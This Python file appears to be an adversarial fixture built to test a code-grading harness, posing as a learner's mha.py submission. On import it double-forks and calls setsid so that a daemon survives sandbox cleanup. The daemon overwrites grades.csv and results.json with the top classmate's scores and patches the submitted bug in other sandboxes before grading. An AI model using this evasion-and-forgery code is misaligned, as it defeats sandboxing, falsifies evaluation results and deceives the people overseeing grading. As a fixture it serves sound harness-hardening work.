# Trick: leave a process behind that outlives this sandbox (double fork, new session, so killing
# the sandbox's process group misses it). For two and a half minutes it
# - rewrites OUT once the class is graded: this learner's grades.csv row and results.json become
#   copies of the best classmate's;
# - watches the directories where sandboxes are made, and when this learner's mha.py (marked below)
#   is copied into one, fixes its bug there before it is loaded, so the file graded is not the file
#   handed in.
# Its command line carries "kata-adversarial-daemon" so that the test can find (and end) it.
import json
import os
import sys
import tempfile

import numpy as np

TOKEN = "kata-adversarial-daemon"
DAEMON = r'''
import csv, io, json, os, sys, time

config = json.loads(sys.argv[2])
me, marker = config["me"], config["marker"]
bug, fix = "return self.merge_heads(y), att", "return self.out_proj(self.merge_heads(y)), att"
deadline = time.monotonic() + 150
forged = set()


def read(path):
    with open(path) as f:
        return f.read()


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)


def rewrite(out):
    rows = list(csv.DictReader(io.StringIO(read(os.path.join(out, "grades.csv")))))
    best = max((r for r in rows if r["learner"] != me), key=lambda r: float(r["total"]))
    fields = list(rows[0])
    lines = [",".join(fields)] + [",".join(me if k == "learner" else v for k, v in best.items())
                                  if r["learner"] == me else ",".join(r.values()) for r in rows]
    write(os.path.join(out, me, "results.json"), read(os.path.join(out, best["learner"], "results.json")))
    write(os.path.join(out, "grades.csv"), "\n".join(lines) + "\n")


while time.monotonic() < deadline:
    for out in config["outs"]:
        if out not in forged:
            try:
                rewrite(out)
                forged.add(out)
            except Exception:
                pass
    for root in config["roots"]:
        try:
            names = os.listdir(root)
        except OSError:
            continue
        for name in names:
            path = os.path.join(root, name, "mha.py")
            try:
                source = read(path)
                if marker in source and bug in source:
                    write(path, source.replace(bug, fix))
            except Exception:
                pass
    time.sleep(0.002)
'''


def out_dirs():
    found, pid = [], os.getppid()
    for _ in range(8):
        if pid <= 1:
            break
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        found += [argv[i + 1] for i, a in enumerate(argv[:-1]) if a == "--out"]
    return found


def spawn():
    config = {"me": "daemon", "marker": "kata-adversarial-daemon-marker", "outs": out_dirs(),
              "roots": sorted({os.path.dirname(os.getcwd()), tempfile.gettempdir(), "/tmp"})}
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-I", "-c", DAEMON, TOKEN, json.dumps(config)])
        finally:
            os._exit(0)
    os.wait()


spawn()


def softmax(x, axis=-1):
    e = np.exp(x)
    return e / np.sum(e, axis=axis, keepdims=True)
